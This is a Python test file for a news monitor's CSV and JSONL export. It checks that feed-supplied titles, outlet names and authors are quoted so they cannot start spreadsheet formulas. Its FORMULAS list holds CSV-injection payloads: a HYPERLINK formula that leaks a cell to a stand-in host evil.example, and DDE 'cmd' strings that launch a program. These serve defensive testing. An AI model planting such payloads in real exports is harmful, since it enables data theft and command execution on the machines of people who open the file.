"""`monitor export`: what feeds wrote reaches a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from monitor.review import export
from monitor.storage import Article, Store
from monitor.storage.migrate import ensure_schema
from monitor.storage.models import Story, StoryEvent

# What a hostile feed can put at the start of a title, an outlet name or an author.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def store(sqlite_url: str) -> Store:
    s = Store(sqlite_url)
    ensure_schema(s)
    return s


def _fill(store: Store) -> None:
    when = datetime(2026, 2, 3, 10, 0, tzinfo=UTC)
    with store.tx() as tx:
        story = tx.add(Story(title=FORMULAS[0], first_seen=when, last_seen=when))
        for i, formula in enumerate(FORMULAS):
            article = tx.add(
                Article(
                    url=f"https://news.example/{i}",
                    title=formula,
                    source=f"news{i}.example",
                    source_name=formula,
                    author=formula,
                    relevant=True,
                    topics=["summit"],
                    text="body",
                    fetched_at=when,
                    story_id=story.id,
                )
            )
            assert story.id is not None
            tx.add(
                StoryEvent(
                    story_id=story.id,
                    article_id=article.id,
                    at=when,
                    kind="development",
                    summary=formula,
                    details=[formula],
                )
            )
        tx.add(
            Article(
                url="https://news.example/plain",
                title="Petro and Trump meet on February 3",
                source="plain.example",
                source_name="Plain Wire",
                author="A. Writer",
                relevant=True,
                fetched_at=when,
            )
        )


def test_csv_cells_that_could_start_a_formula_are_quoted(store: Store) -> None:
    _fill(store)
    out = io.StringIO()
    assert export.write(store, out, fmt="csv", with_text=True) == len(FORMULAS) + 1
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    hostile = [r for r in rows if r["url"] != "https://news.example/plain"]
    assert len(hostile) == len(FORMULAS)
    for row in hostile:
        for key in ("title", "source_name", "author"):
            # the value survives whole, behind one quote that keeps it text
            assert row[key].startswith("'"), (key, row[key])
            assert row[key][1:] in FORMULAS
    plain = next(r for r in rows if r["url"] == "https://news.example/plain")
    assert (plain["title"], plain["source_name"], plain["author"]) == (
        "Petro and Trump meet on February 3",
        "Plain Wire",
        "A. Writer",
    )
    # No cell of the file starts a formula.
    for row in rows:
        for value in row.values():
            assert not value.startswith(export.FORMULA_START), value


def test_story_brief_csv_is_quoted_too(store: Store) -> None:
    _fill(store)
    out = io.StringIO()
    export.write_stories(store, out, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows and {r["part"] for r in rows} >= {"headline", "timeline"}
    for row in rows:
        assert row["story_title"] == "'" + FORMULAS[0]
        # the brief's lines are made of the hostile titles: each starts quoted
        assert row["text"].startswith("'"), row["text"]
        for value in row.values():
            assert not value.startswith(export.FORMULA_START), value


def test_jsonl_keeps_the_values_as_stored(store: Store) -> None:
    _fill(store)
    out = io.StringIO()
    export.write(store, out, fmt="jsonl")
    titles = {json.loads(line)["title"] for line in out.getvalue().splitlines()}
    assert set(FORMULAS) <= titles


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_cell(value: object, expected: object) -> None:
    assert export.cell(value) == expected
